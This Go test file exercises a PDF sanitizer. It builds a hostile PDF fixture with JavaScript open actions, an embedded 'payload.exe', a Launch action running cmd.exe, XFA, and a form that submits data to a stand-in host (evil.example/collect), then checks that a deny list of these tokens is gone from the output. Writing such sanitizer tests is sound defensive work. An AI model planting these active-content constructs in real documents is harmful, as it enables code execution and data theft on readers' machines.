package pdfworker_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"fmt"
	"io"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
)

// buildPDF writes a PDF from numbered object bodies (object i+1 is
// objs[i]) with a correct cross-reference table; object 1 is the catalog.
func buildPDF(objs []string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

func stream(dict, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

const hostileText = "Beschlussvorlage Radweg Durlacher Allee"

// hostilePDF has every kind of active content the sanitizer must remove.
func hostilePDF() []byte {
	content := "BT /F1 18 Tf 72 720 Td (" + hostileText + ") Tj ET"
	return buildPDF([]string{
		// 1 catalog: OpenAction JavaScript, Names with JavaScript and
		// EmbeddedFiles, AcroForm with XFA, document-level AA.
		`<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R
		   /Names << /JavaScript 6 0 R /EmbeddedFiles 8 0 R >>
		   /AcroForm << /Fields [15 0 R] /XFA 12 0 R /DA (/Helv 0 Tf 0 g) >>
		   /AA << /WC << /S /JavaScript /JS (app.alert\('close'\)) >> >> >>`,
		// 2 pages
		`<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
		// 3 page with a Launch link, a FileAttachment annotation and page AA
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
		   /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>
		   /Annots [10 0 R 11 0 R 13 0 R 15 0 R]
		   /AA << /O << /S /JavaScript /JS (app.alert\('page'\)) >> >> >>`,
		// 4 content
		stream("", content),
		// 5 OpenAction
		`<< /Type /Action /S /JavaScript /JS (app.alert\('EVIL-OPEN-ACTION'\)) >>`,
		// 6 JavaScript name tree
		`<< /Names [(init) 7 0 R] >>`,
		// 7 document-level script
		`<< /S /JavaScript /JS (this.exportDataObject\({cName: 'x'}\); EVIL-NAME-TREE) >>`,
		// 8 EmbeddedFiles name tree
		`<< /Names [(payload.exe) 9 0 R] >>`,
		// 9 file specification with the embedded stream
		`<< /Type /Filespec /F (payload.exe) /EF << /F 14 0 R >> >>`,
		// 10 link with a Launch action
		`<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0]
		   /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c EVIL-LAUNCH) >> >> >>`,
		// 11 file attachment annotation
		`<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 9 0 R /Contents (Anhang) >>`,
		// 12 XFA
		stream("", "<xdp:xdp>EVIL-XFA</xdp:xdp>"),
		// 13 a harmless web link, which stays
		`<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /URI /URI (https://www.karlsruhe.de/) >> >>`,
		// 14 the embedded file
		stream("/Type /EmbeddedFile", "MZ EVIL-EMBEDDED-PAYLOAD"),
		// 15 a form field whose keystroke action is a script
		`<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /DA (/Helv 12 Tf 0 g) /Rect [72 400 300 420] /P 3 0 R
		   /AA << /K << /S /JavaScript /JS (EVIL-FIELD) >> >>
		   /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>`,
	})
}

// TestSanitizer: after ingestion, re-parsing the rendition finds none of
// the active content, and the text is unchanged.
func TestSanitizer(t *testing.T) {
	p := newPool(t, nil)
	ctx := context.Background()
	in := writeFile(t, "hostile.pdf", hostilePDF())
	res, err := p.Ingest(ctx, in)
	if err != nil {
		t.Fatalf("ingest: %v", err)
	}
	defer os.Remove(res.RenditionPath)

	if got, want := len(res.Pages), 1; got != want {
		t.Fatalf("pages = %d, want %d", got, want)
	}
	if got := strings.TrimSpace(res.Pages[0].Text); got != hostileText {
		t.Errorf("text = %q, want %q", got, hostileText)
	}
	for _, want := range []string{"OpenAction", "JavaScript", "Launch", "EmbeddedFile", "FileAttachment", "XFA", "AdditionalActions", "SubmitForm"} {
		if !contains(res.Sanitized, want) {
			t.Errorf("Sanitized = %v, lacks %s", res.Sanitized, want)
		}
	}

	// The raw bytes, with every stream inflated, hold none of it.
	raw, err := os.ReadFile(res.RenditionPath)
	if err != nil {
		t.Fatal(err)
	}
	all := string(raw) + inflateAll(raw)
	for _, bad := range []string{"EVIL-", "/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/FileAttachment", "/XFA", "/OpenAction", "/AA", "payload.exe", "cmd.exe", "evil.example", "/SubmitForm"} {
		if strings.Contains(all, bad) {
			t.Errorf("rendition still contains %q", bad)
		}
	}
	if !strings.Contains(all, "https://www.karlsruhe.de/") {
		t.Errorf("the harmless web link was removed")
	}

	// pdfcpu, reading the rendition, finds no action, script or file.
	f, err := os.Open(res.RenditionPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	conf := model.NewDefaultConfiguration()
	conf.ValidationMode = model.ValidationRelaxed
	pctx, err := api.ReadContext(f, conf)
	if err != nil {
		t.Fatalf("re-parse: %v", err)
	}
	for n, e := range pctx.XRefTable.Table {
		if e == nil || e.Free || e.Object == nil {
			continue
		}
		checkObject(t, n, e.Object)
	}
}

func checkObject(t *testing.T, n int, o types.Object) {
	switch v := o.(type) {
	case types.Dict:
		for k, x := range v {
			switch k {
			case "OpenAction", "AA", "JavaScript", "JS", "EmbeddedFiles", "EF", "XFA":
				t.Errorf("object %d still has /%s", n, k)
			case "S":
				if s, ok := x.(types.Name); ok && (s == "JavaScript" || s == "Launch") {
					t.Errorf("object %d is still a %s action", n, s)
				}
			case "Subtype":
				if s, ok := x.(types.Name); ok && s == "FileAttachment" {
					t.Errorf("object %d is still a file attachment", n)
				}
			}
			checkObject(t, n, x)
		}
	case types.StreamDict:
		checkObject(t, n, v.Dict)
	case types.Array:
		for _, x := range v {
			checkObject(t, n, x)
		}
	}
}

var streamRE = regexp.MustCompile(`(?s)stream\r?\n(.*?)\r?\nendstream`)

// inflateAll returns the inflated contents of every Flate stream in b.
func inflateAll(b []byte) string {
	var out strings.Builder
	for _, m := range streamRE.FindAllSubmatch(b, -1) {
		r, err := zlib.NewReader(bytes.NewReader(m[1]))
		if err != nil {
			continue
		}
		data, _ := io.ReadAll(r)
		out.Write(data)
	}
	return out.String()
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}
